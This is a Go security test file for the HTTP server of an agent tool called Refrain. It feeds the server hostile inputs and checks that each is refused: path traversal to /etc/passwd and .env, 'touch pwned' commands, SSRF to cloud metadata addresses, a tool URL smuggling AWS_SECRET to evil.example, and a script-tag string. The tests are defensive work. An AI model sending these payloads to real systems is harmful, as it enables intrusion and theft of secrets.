// SPDX-License-Identifier: Apache-2.0

package server_test

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/refrain-dev/refrain/internal/history/runlog"
	"github.com/refrain-dev/refrain/server"
)

// A name that is pointed at the server, and a page of another origin, get nothing.
func TestWrongHostAndOrigin(t *testing.T) {
	s := open(t, map[string]string{"counting.yaml": counting})
	for _, host := range []string{"evil.example", "evil.example:8080", "127.0.0.1.evil.example", "169.254.169.254", ""} {
		if host != "" {
			s.refused(421, "wrong_host", "GET", "/api/v1/runs", nil, "Host", host)
		}
	}
	for _, host := range []string{"localhost:1", "127.0.0.1", "[::1]:8080", "LOCALHOST"} {
		s.ok("GET", "/api/v1/runs", nil, nil, "Host", host)
	}
	req := map[string]any{"definition": "counting"}
	s.refused(403, "cross_origin", "POST", "/api/v1/runs", req, "Origin", "https://evil.example")
	s.refused(403, "cross_origin", "POST", "/api/v1/runs", req, "Sec-Fetch-Site", "cross-site")
	s.refused(403, "cross_origin", "DELETE", "/api/v1/definitions/counting", nil, "Origin", "null")
	secure := strings.Replace(s.url, "http:", "https:", 1)
	s.refused(403, "cross_origin", "POST", "/api/v1/runs", req, "Origin", secure)
	s.ok("POST", "/api/v1/runs", req, nil, "Origin", secure, "X-Forwarded-Proto", "https") // behind a proxy with TLS
	s.ok("POST", "/api/v1/runs", req, nil, "Origin", s.url)
	if text := s.logs.String(); !strings.Contains(text, "a request was refused") {
		t.Errorf("the log has %q", text)
	}
	got := s.do("GET", "/", nil)
	for name, want := range map[string]string{
		"Content-Security-Policy": "default-src 'self'", "X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer",
		"Cross-Origin-Resource-Policy": "same-origin",
	} {
		if !strings.Contains(got.header.Get(name), want) {
			t.Errorf("%s: %q", name, got.header.Get(name))
		}
	}
	const opener = "Cross-Origin-Opener-Policy"
	if got.header.Get(opener) != "same-origin" {
		t.Errorf("%s: %q", opener, got.header.Get(opener))
	}
	s.start(func(c *server.Config) { c.Hosts = []string{"box.example"} })
	for proto, want := range map[string]string{"http": "", "https": "same-origin"} {
		got := s.do("GET", "/", nil, "Host", "box.example", "X-Forwarded-Proto", proto)
		if got.status != 200 || got.header.Get(opener) != want {
			t.Errorf("%s://box.example: %d, %q", proto, got.status, got.header.Get(opener))
		}
	}
}

// A token is needed where there is one, and is in no log.
func TestToken(t *testing.T) {
	const token = "correct-horse-battery"
	s := open(t, nil, func(c *server.Config) { c.Token = token })
	for _, given := range []string{"", "Bearer wrong-horse-battery", "Bearer ", "Basic " + token, token} {
		s.refused(401, "no_token", "GET", "/api/v1/runs", nil, "Authorization", given)
	}
	s.ok("GET", "/api/v1/runs", nil, nil, "Authorization", "Bearer "+token)
	s.ok("GET", "/healthz", nil, nil)
	// Nobody gets in by trying, and the log does not have what was tried.
	for i := range 200 {
		got := s.do("GET", "/api/v1/runs", nil, "Authorization", fmt.Sprint("Bearer ", token[:i%len(token)]))
		if got.status != http.StatusUnauthorized && got.status != http.StatusTooManyRequests {
			t.Fatalf("got %d %s", got.status, got.body)
		}
	}
	if text := s.logs.String(); strings.Contains(text, "horse") || strings.Contains(text, "correct") {
		t.Errorf("the log says %q", text)
	}
	s.logged("a request was refused", "from=")
}

// logged fails unless the log has some words.
func (s *site) logged(words ...string) {
	s.Helper()
	for text, i := s.logs.String(), 0; i < len(words); i++ {
		if !strings.Contains(text, words[i]) {
			s.Errorf("the log does not say %q: %q", words[i], text)
		}
	}
}

// No name leads out of the folder, whatever way it is written, and no link does.
func TestNamesStayInTheFolder(t *testing.T) {
	s := open(t, map[string]string{"counting.yaml": counting})
	secret := filepath.Join(t.TempDir(), "secret.yaml")
	if err := os.WriteFile(secret, []byte("name: secret\ntext: classified\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(secret, filepath.Join(s.dir, "link.yaml")); err != nil {
		t.Skip(err)
	}
	for _, name := range []string{"..%2Fsecret", "%2E%2E%2fsecret", "%2Fetc%2Fpasswd", "a%00b", "..", ".hidden", "a%5C..%5Cb", "link",
		"con%20x", "CON", "nul", "aux.v1", "Com1", "lpt9.x.y"} {
		for _, method := range []string{"GET", "PUT", "DELETE"} {
			got := s.do(method, "/api/v1/definitions/"+name, "name: x\ntext: y\n", "If-Match", "*")
			if got.status < 300 || strings.Contains(string(got.body), "classified") {
				t.Errorf("%s %s: %d %s", method, name, got.status, got.body)
			}
		}
	}
	for _, id := range []string{"../x", "a/b", "last", "-x", "", strings.Repeat("x", 65), "a\x00b", "a b"} {
		if id != "" {
			s.refused(400, "bad_request", "POST", "/api/v1/runs", map[string]any{"definition": "counting", "id": id})
		}
	}
	for _, path := range []string{
		"/api/v1/runs/..%2F..%2Fsecret/export", "/api/v1/runs/%2Fetc%2Fpasswd/definition", "/api/apps/..%2Fsecret/users/a/sessions",
		"/api/apps/counting/users/..%2F..%2Fetc/sessions", "/api/apps/counting/users/a/sessions/..%2Fx",
		"/api/apps/counting/users/a/sessions/x/artifacts/..%2F..%2Fsecret.yaml", "/pages/..%2F..%2Fsecret.yaml", "/..%2Fsecret.yaml",
	} {
		if got := s.do("GET", path, nil); got.status < 300 || strings.Contains(string(got.body), "classified") {
			t.Errorf("%s: %d %s", path, got.status, got.body)
		}
	}
	s.logged("a request was refused")
	if text, err := os.ReadFile(secret); err != nil || string(text) != "name: secret\ntext: classified\n" {
		t.Errorf("the file has %q, %v", text, err)
	}
}

// What a client sends starts no programs, reads no files besides the folder's definitions, and brings
// no keys.
func TestDefinitionsOfClientsAreNotTrusted(t *testing.T) {
	s := open(t, map[string]string{
		"trusted.yaml": "name: trusted\ncommand: [echo, hello]\n", ".env": "SECRET: hidden\n", "notes.txt": "hidden: [\n",
		".git/config.yaml": "hidden: [\n",
	})
	for what, text := range map[string]string{
		"a command":     "name: x\ncommand: [touch, pwned]\n",
		"in a loop":     "name: x\nmax_iterations: 1\nsub_agents:\n  - name: y\n    command: [touch, pwned]\n",
		"a callback":    "name: x\ntext: y\ncallbacks:\n  after_agent: [{command: [touch, pwned]}]\n",
		"a tool server": "name: x\nmodel: ollama/x\ninstructions: y\ntools:\n  - mcp: {command: [touch, pwned]}\n",
		"a workspace":   "name: x\nmax_iterations: 1\nworkspace: {setup: [touch, pwned]}\nsub_agents:\n  - {name: y, text: hi}\n",
		"an agent":      "name: x\ncli: claude\nprompt: y\n",
		"a part":        "name: x\nmax_iterations: 1\nsub_agents:\n  - ref: trusted.yaml\n",
	} {
		if got := s.do("POST", "/api/v1/runs", map[string]any{"text": text}); got.status != http.StatusForbidden {
			t.Errorf("%s: started: %d %s", what, got.status, got.body)
		}
		if got := s.do("PUT", "/api/v1/definitions/new", text); got.status != http.StatusForbidden {
			t.Errorf("%s: written: %d %s", what, got.status, got.body)
		}
	}
	for what, text := range map[string]string{
		"/etc/passwd":      "name: x\nmax_iterations: 1\nsub_agents:\n  - ref: /etc/passwd\n",
		"the folder above": "name: x\nmax_iterations: 1\nsub_agents:\n  - ref: ../../etc/passwd\n",
		"a hidden file":    "name: x\nmax_iterations: 1\nsub_agents:\n  - ref: .env\n",
		"a hidden folder":  "name: x\nmax_iterations: 1\nsub_agents:\n  - ref: .git/config.yaml\n",
		"another file":     "name: x\nmax_iterations: 1\nsub_agents:\n  - ref: notes.txt\n",
		"a script":         "name: x\nmodel: scripted/notes.txt\ninstructions: y\n",
		"a script outside": "name: x\nmodel: scripted//etc/passwd\ninstructions: y\n",
		"a key":            "name: x\ntext: sk-ant-api03-" + strings.Repeat("a1B2", 24) + "\n",
	} {
		got := s.do("POST", "/api/v1/runs", map[string]any{"text": text})
		if got.status < 400 || strings.Contains(string(got.body), "hidden:") || strings.Contains(string(got.body), "root:") {
			t.Errorf("%s: %d %s", what, got.status, got.body)
		}
	}
	s.logged("a request was refused")
	if text := s.logs.String(); strings.Contains(text, "hidden:") || strings.Contains(text, "a1B2a1B2") {
		t.Errorf("the log has %q", text)
	}
	if _, err := os.Stat(filepath.Join(s.dir, "pwned")); err == nil {
		t.Error("a program was started")
	}
	// What a person has put there may do it.
	id := s.run(map[string]any{"definition": "trusted"}).Run
	if got := s.wait(id); got != "completed" {
		t.Errorf("the trusted run is %s", got)
	}
	// And so may clients, if the server was told so.
	s.start(func(c *server.Config) { c.AllowCommands = true })
	s.ok("PUT", "/api/v1/definitions/new", "name: new\ncommand: [echo, x]\n", nil)
}

// A client's definition signs webhooks with no secret of the server but those that the operator allows.
func TestSecretsOfWebhooks(t *testing.T) {
	s := open(t, nil)
	const text = "name: x\ntext: hi\ncallbacks: {after_run: [{webhook: 'https://example.org/hook', secret_env: REFRAIN_TOKEN}]}\n"
	for _, allowed := range [][]string{nil, {"HOOK_SECRET"}} {
		s.start(func(c *server.Config) { c.AllowSecretEnv = allowed })
		for what, got := range map[string]answer{
			"run":  s.do("POST", "/api/v1/runs", map[string]any{"text": text}),
			"save": s.do("PUT", "/api/v1/definitions/new", text),
		} {
			if got.status != http.StatusForbidden || !strings.Contains(string(got.body), "--allow-secret-env REFRAIN_TOKEN") {
				t.Errorf("%s, allowed %v: %d %s", what, allowed, got.status, got.body)
			}
		}
	}
	s.ok("PUT", "/api/v1/definitions/new", strings.Replace(text, "REFRAIN_TOKEN", "HOOK_SECRET", 1), nil)
}

// A program of a client's definition inherits no variable of Refrain's own, although it may start programs.
func TestSecretsOfPrograms(t *testing.T) {
	s := open(t, nil, func(c *server.Config) { c.AllowCommands, c.AllowSecretEnv = true, []string{"REFRAIN_HOOK"} })
	const tools = "name: x\nmodel: scripted/s.yaml\ninstructions: go\ntools: [{mcp: {command: [srv, go], env: [OPENAI_API_KEY]}}]\n"
	for text, name := range map[string]string{
		"name: x\ncommand: [env]\ninherit: [HOME, REFRAIN_TOKEN]\n":                                          "REFRAIN_TOKEN",
		"name: x\ntext: hi\ncallbacks: {after_run: [{command: [env], inherit: [TEMPORAL_API_KEY]}]}\n":       "TEMPORAL_API_KEY",
		"name: x\ntype: sequential\nsub_agents: [{name: y, command: [env], inherit: [ANTHROPIC_API_KEY]}]\n": "ANTHROPIC_API_KEY",
		tools: "OPENAI_API_KEY",
		"name: x\nmodel: scripted/s.yaml\ninstructions: go\ntools: [{mcp: {url: 'https://evil.example/${AWS_SECRET}', inherit: [AWS_SECRET]}}]\n": "AWS_SECRET",
	} {
		got := s.do("PUT", "/api/v1/definitions/new", text)
		if got.status != http.StatusForbidden || !strings.Contains(string(got.body), "--allow-secret-env "+name) {
			t.Errorf("%s: %d %s", text, got.status, got.body)
		}
	}
	s.ok("PUT", "/api/v1/definitions/new", "name: x\ncommand: [env]\ninherit: [REFRAIN_HOOK]\n", nil)
}

// A mistake in a client's text of another product is the client's, with its position and without the server's paths.
func TestMistakesInOtherDialects(t *testing.T) {
	s := open(t, nil)
	for _, text := range []string{
		"agent_class: LoopAgent\nname: x\nmax_iterations: two\nsub_agents: [{config_path: foo.yaml}]\n",
		"agent_class: LlmAgent\nname: x\nmodel: [1]\ninstruction: 3\n",
	} {
		for _, got := range []answer{
			s.do("POST", "/api/v1/runs", map[string]any{"text": text}), s.do("PUT", "/api/v1/definitions/x", text, "If-None-Match", "*"),
		} {
			if got.status != http.StatusUnprocessableEntity || !strings.Contains(string(got.body), `"line":3,`) || strings.Contains(string(got.body), s.dir) {
				t.Errorf("got %d %s", got.status, got.body)
			}
		}
	}
}

// Agents reach no address of the machine or of a private network, also not by a name or a redirect.
func TestPrivateAddresses(t *testing.T) {
	reached := make(chan string, 100)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			reached <- conn.RemoteAddr().String()
			conn.Close()
		}
	}()
	s := open(t, nil)
	_, port, _ := net.SplitHostPort(l.Addr().String())
	for _, host := range []string{"127.0.0.1", "localhost", "[::1]", "169.254.169.254", "10.0.0.1", "192.168.1.1", "172.16.0.1",
		"100.64.0.1", "[fe80::1]", "[fc00::1]", "[::ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "0.0.0.0", "[::]"} {
		for kind, text := range map[string]string{
			"http": fmt.Sprintf("name: x\nurl: http://%s:%s/latest/meta-data\noutput_key: out\n", host, port),
			"a2a":  fmt.Sprintf("name: x\nendpoint: http://%s:%s/a2a\noutput_key: out\n", host, port),
		} {
			got := s.do("POST", "/api/v1/runs", map[string]any{"text": text})
			if got.status != http.StatusCreated {
				t.Errorf("%s %s: %d %s", kind, host, got.status, got.body)
				continue
			}
			id := got.header.Get("Location")[len("/api/v1/runs/"):]
			if status := s.wait(id); status != "failed" {
				t.Errorf("%s %s: the run is %s", kind, host, status)
			}
			var row struct{ Runs []listed }
			s.ok("GET", "/api/v1/runs?q="+id, nil, &row)
			if len(row.Runs) != 1 || !strings.Contains(row.Runs[0].Error, "private network") {
				t.Errorf("%s %s: %+v", kind, host, row.Runs)
			}
		}
	}
	if len(reached) > 0 {
		t.Errorf("the machine was reached from %s", <-reached)
	}
}

// A path that has other methods says which, and a run that is not there is named.
func TestOddMethodsAndRuns(t *testing.T) {
	s := open(t, map[string]string{"counting.yaml": counting})
	for _, tt := range []struct{ method, path, allow string }{
		{"PATCH", "/api/v1/runs", "GET, HEAD, POST"},
		{"OPTIONS", "/api/v1/runs", "GET, HEAD, POST"},
		{"PUT", "/api/v1/runs:backtest", "GET, HEAD, POST"},
		{"POST", "/api/v1/runs/ana.1", "DELETE, GET, HEAD"},
		{"PUT", "/api/v1/runs/x:pause", "POST"},
		{"PUT", "/api/v1/runs/a%2Fb", "DELETE, GET, HEAD"},
		{"POST", "/api/v1/definitions/loop.v2", "DELETE, GET, HEAD, PUT"},
		{"GET", "/api/v1/definitions:edit", "POST"},
		{"DELETE", "/api/list-apps", "GET, HEAD"},
		{"POST", "/healthz", "GET, HEAD"},
		{"DELETE", "/readyz", "GET, HEAD"},
	} {
		s.refused(405, "wrong_method", tt.method, tt.path, nil)
		if got := s.do(tt.method, tt.path, nil).header.Get("Allow"); got != tt.allow {
			t.Errorf("%s %s: Allow: %s, want %s", tt.method, tt.path, got, tt.allow)
		}
	}
	for _, ask := range []string{
		"GET /", "DELETE /", "GET /events", "GET /view", "GET /export", "GET /state", "GET /prompt?address=x",
		"POST :pause", "POST :cancel", "POST :resume", "POST :fork", "POST :answer", "POST :tell",
	} {
		method, rest, _ := strings.Cut(ask, " ")
		if got := s.refused(404, "run_not_found", method, "/api/v1/runs/nosuch"+strings.TrimSuffix(rest, "/"), nil); got != `there is no run "nosuch"` {
			t.Errorf("%s: %s", ask, got)
		}
	}
	s.ok("GET", "/api/v1/runs?status=&status=completed", nil, nil)
	got := s.refused(400, "bad_request", "GET", "/api/v1/runs?status=runing", nil)
	if !strings.Contains(got, `there is no status "runing" (did you mean "running"?); use some of running, paused`) {
		t.Error(got)
	}
}

// Bodies have limits and types, and what is in them is known.
func TestOddBodies(t *testing.T) {
	s := open(t, map[string]string{"counting.yaml": counting}, func(c *server.Config) { c.MaxBody = 1 << 16 })
	s.refused(413, "too_large", "POST", "/api/v1/runs", map[string]any{"text": strings.Repeat("x", 1<<17)})
	s.refused(413, "too_large", "PUT", "/api/v1/definitions/big", strings.Repeat("# x\n", 1<<15))
	s.refused(415, "wrong_type", "POST", "/api/v1/runs", "definition: counting")
	s.refused(400, "bad_request", "POST", "/api/v1/runs", map[string]any{"definition": "counting", "definitoin": "x"})
	s.refused(400, "bad_request", "POST", "/api/v1/runs", []string{"counting"})
	s.refused(400, "bad_request", "POST", "/api/v1/runs", nil)
	s.refused(404, "no_route", "POST", "/api/v1/runs/x:explode", nil)
	s.refused(404, "no_route", "GET", "/api/v2/runs", nil)
	for _, tt := range []struct{ body, want string }{
		{`{"definition": "nope"}}`, "the body has more than one JSON value: something follows the first"},
		{`{"definition": "counting"} {}`, "the body has more than one JSON value: something follows the first"},
		{``, "the body is empty: send JSON"},
		{` `, "the body is empty: send JSON"},
		{`{"definition": "coun`, "the body is no whole JSON: it ends too early"},
		{`{definition: 1}`, "the body is no JSON: byte 2: invalid character 'd' looking for beginning of object key string"},
		{`{"input": 1}`, "input must be text and not number"},
		{`{"limits": {"max_iterations": -1}}`, "limits.max_iterations must be a whole number of at least 0 and not number -1"},
		{`{"limits": {"max_model_calls": 1.5}}`, "limits.max_model_calls must be a whole number and not number 1.5"},
		{`{"state": []}`, "state must be an object and not array"},
		{`"counting"`, "the body must be an object and not string"},
		{`{"definition": "x", "inputs": {"who": "Ana"}}`, `there is no field "inputs": its values belong in state`},
		{`{"definitoin": "x"}`, `there is no field "definitoin" (did you mean definition?)`},
		{`{"definition": "counting", "limits": {"max_model_calls": -1}}`, "limits.max_model_calls is negative"},
	} {
		got := s.refused(400, "bad_request", "POST", "/api/v1/runs", tt.body, "Content-Type", "application/json")
		if got != tt.want {
			t.Errorf("%s: %s, want %s", tt.body, got, tt.want)
		}
	}
	// A gigabyte that is announced is refused before it is sent.
	conn, err := net.Dial("tcp", hostOf(t, s.url))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "POST /api/v1/runs HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1073741824\r\n\r\n%s",
		strings.Repeat("x", 1<<17))
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil || resp.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("got %v, %v", resp, err)
	}
	// One that is not announced is cut off.
	sent := new(zeros)
	if resp, err := http.Post(s.url+"/api/v1/runs", "application/json", sent); err == nil {
		if resp.Body.Close(); resp.StatusCode != http.StatusRequestEntityTooLarge {
			t.Errorf("got %v", resp)
		}
	}
	if n := sent.read.Load(); n > gigabyte/2 {
		t.Errorf("%d bytes were read", n)
	}
	s.logged("The request is too large")
}

const gigabyte = 1 << 30

// zeros is a body of a gigabyte, which does not say how long it is.
type zeros struct{ read atomic.Int64 }

func (z *zeros) Read(b []byte) (int, error) {
	if z.read.Load() >= gigabyte {
		return 0, io.EOF
	}
	clear(b)
	z.read.Add(int64(len(b)))
	return len(b), nil
}

func hostOf(t *testing.T, address string) string {
	u, err := url.Parse(address)
	if err != nil {
		t.Fatal(err)
	}
	return u.Host
}

// tight is a listener whose connections have hardly room for what nobody reads.
type tight struct{ net.Listener }

func (l tight) Accept() (net.Conn, error) {
	conn, err := l.Listener.Accept()
	if err == nil {
		err = conn.(*net.TCPConn).SetWriteBuffer(4 << 10)
	}
	return conn, err
}

// A client that does not read is dropped, and neither its run nor other clients wait for it.
func TestSlowReaders(t *testing.T) {
	s := open(t, map[string]string{"long.yaml": strings.Replace(counting, "It is {{n}}.", strings.Repeat("It is {{n}}. ", 2000), 1)},
		func(c *server.Config) { c.WriteTimeout = 200 * time.Millisecond; c.MaxStreams = 4 })
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	served := make(chan error, 1)
	go func() { served <- s.Serve(tight{l}) }()
	id := s.run(map[string]any{"definition": "long"}).Run
	for range 4 {
		conn, err := net.Dial("tcp", l.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		_ = conn.(*net.TCPConn).SetReadBuffer(1024)
		fmt.Fprintf(conn, "GET /api/v1/runs/%s/events HTTP/1.1\r\nHost: localhost\r\nAccept: text/event-stream\r\n\r\n", id)
	}
	if got := s.wait(id); got != "completed" {
		t.Fatalf("the run is %s", got)
	}
	// Their places become free when they are dropped.
	ctx, cancel := context.WithTimeout(t.Context(), soon)
	defer cancel()
	for {
		got := s.do("GET", "/api/v1/runs/"+id+"/events", nil, "Accept", "application/x-ndjson")
		if got.status == http.StatusOK {
			if n := strings.Count(string(got.body), "\n"); n != len(s.log(id)) {
				t.Errorf("%d of %d lines", n, len(s.log(id)))
			}
			return
		}
		if got.status != http.StatusServiceUnavailable || got.header.Get("Retry-After") == "" {
			t.Fatalf("got %d %s", got.status, got.body)
		}
		select {
		case <-ctx.Done():
			t.Fatal("the slow clients keep their places")
		case <-time.After(10 * time.Millisecond):
		}
	}
}

// A key that got into a log is shown nowhere: not in events, states, differences and lists, and not in
// an export, which says that it is not the run any more.
func TestSecretsAreMaskedEverywhere(t *testing.T) {
	const key = "sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789ABCDEF"
	s := open(t, map[string]string{
		"leaks.yaml": "name: leaks\nmax_iterations: 2\nsub_agents:\n  - {name: say, text: \"The key is " + key + "\", output_key: said}\n",
		"plain.yaml": "name: plain\nmax_iterations: 2\nsub_agents:\n  - {name: say, text: hello, output_key: said}\n",
	})
	id := s.run(map[string]any{"definition": "leaks", "input": "with https://ana:hunter2hunter2@example.org"}).Run
	s.wait(id)
	path := "/api/v1/runs/" + id
	for _, at := range []string{"", "/events", "/state", "/diff?from=iteration/0&to=iteration/1", "/iterations", "/scores",
		"/view", "/view/iterations?loop=leaks", "/view/step?address=leaks%5B1%5D/say", "/definition", "/export", "/export?audit=1"} {
		body := string(s.ok("GET", path+at, nil, nil).body)
		if strings.Contains(body, key) || strings.Contains(body, "hunter2hunter2") {
			t.Errorf("%s has the secret: %s", at, body)
		}
	}
	file := filepath.Join(t.TempDir(), "run.jsonl")
	read := func(id string) *runlog.Run {
		t.Helper()
		if err := os.WriteFile(file, s.ok("GET", "/api/v1/runs/"+id+"/export?audit=1", nil, nil).body, 0o600); err != nil {
			t.Fatal(err)
		}
		log, err := runlog.ReadFile(file, nil)
		if err != nil {
			t.Fatal(err)
		}
		return log.Run()
	}
	leaks := read(id)
	if _, flaw, err := leaks.Chained(); flaw != nil || err != nil || leaks.File.Masked() == 0 {
		t.Errorf("the export is not whole: %v, %v, %d lines masked", flaw, err, leaks.File.Masked())
	}
	if _, err := leaks.Sound(); err == nil || !strings.Contains(err.Error(), "secrets were struck out") {
		t.Errorf("a masked file can be imported: %v", err)
	}
	var again bytes.Buffer
	if _, err := leaks.Export(&again, runlog.ExportOptions{}); err != nil || !strings.Contains(again.String(), `"masked":`) {
		t.Errorf("exported again it is a run: %v", err)
	}
	id = s.run(map[string]any{"definition": "plain"}).Run
	s.wait(id)
	if _, err := read(id).Sound(); err != nil {
		t.Errorf("an export without secrets: %v", err)
	}
}

// A server that is only read shows runs whole, and does nothing to them.
func TestReadOnly(t *testing.T) {
	s := open(t, map[string]string{"counting.yaml": counting, "asks.yaml": "name: asks\nquestion: Is it so?\n"})
	id, asks := s.run(map[string]any{"definition": "counting"}).Run, s.run(map[string]any{"definition": "asks"}).Run
	s.wait(id)
	s.wait(asks)
	log := s.log(id)
	s.start(func(c *server.Config) { c.Dir, c.ReadOnly = "", true })
	before := s.log(id)
	if len(before) != len(log) {
		t.Fatalf("%d events, and %d before", len(before), len(log))
	}
	for _, run := range []string{id, asks} {
		var head struct {
			Status string
			Can    map[string]bool
		}
		s.ok("GET", "/api/v1/runs/"+run+"/view", nil, &head)
		if len(head.Can) != 0 || head.Status == "" {
			t.Errorf("run %s, which is %s, can %v", run, head.Status, head.Can)
		}
	}
	path := "/api/v1/runs/" + id
	for _, at := range []string{"", "/events", "/iterations", "/scores", "/view/iterations?loop=counting", "/view/step?address=counting%5B1%5D/say",
		"/state?at=iteration/5", "/diff?from=iteration/4&to=iteration/5", "/export", "/definition"} {
		s.ok("GET", path+at, nil, nil)
	}
	s.ok("GET", "/api/v1/definitions", nil, nil)
	s.ok("POST", "/api/v1/runs:backtest", map[string]any{"runs": []string{id}, "set": map[string]any{"max_iterations": 3}}, nil)
	var about struct {
		ReadOnly bool `json:"read_only"`
	}
	if s.ok("GET", "/api/v1/server", nil, &about); !about.ReadOnly {
		t.Error("the server does not say that it is only read")
	}
	for _, r := range [][2]string{
		{"POST", path + ":pause"}, {"POST", path + ":tell"}, {"POST", path + ":resume"}, {"POST", path + ":cancel"}, {"POST", path + ":fork"}, {"POST", "/api/v1/runs/" + asks + ":answer"},
		{"DELETE", path}, {"POST", "/api/v1/runs"}, {"PUT", "/api/v1/definitions/counting"}, {"DELETE", "/api/v1/definitions/counting"},
		{"POST", "/api/v1/definitions:validate"}, {"POST", "/api/v1/definitions:edit"}, {"POST", "/api/v1/definitions:outline"},
	} {
		got := s.do(r[0], r[1], map[string]any{})
		if got.status != http.StatusForbidden || !strings.Contains(string(got.body), "urn:refrain:read_only") {
			t.Errorf("%s %s: %d %s", r[0], r[1], got.status, got.body)
		}
	}
	for _, r := range [][2]string{{"POST", "/api/run"}, {"GET", "/api/list-apps"}, {"GET", "/api/v1/definitions/counting"}} {
		if got := s.do(r[0], r[1], map[string]any{}); got.status != http.StatusNotFound {
			t.Errorf("%s %s: %d %s", r[0], r[1], got.status, got.body)
		}
	}
	if after := s.log(id); len(after) != len(before) {
		t.Errorf("the run had %d events and has %d", len(before), len(after))
	}
}

// What a model or a definition says commands no terminal and turns no text: it is JSON, escaped.
func TestTextIsHarmless(t *testing.T) {
	s := open(t, map[string]string{"odd.yaml": "name: odd\ntext: \"<script>alert(1)</script>\\u202e\\u009b\"\n"})
	id := s.run(map[string]any{"definition": "odd"}).Run
	s.wait(id)
	for _, path := range []string{"", "/events", "/state", "/export"} {
		got := s.ok("GET", "/api/v1/runs/"+id+path, nil, nil)
		if strings.ContainsAny(string(got.body), "\u202e\u009b") || !strings.Contains(got.header.Get("Content-Type"), "json") ||
			got.header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: %v %q", path, got.header, got.body)
		}
	}
}
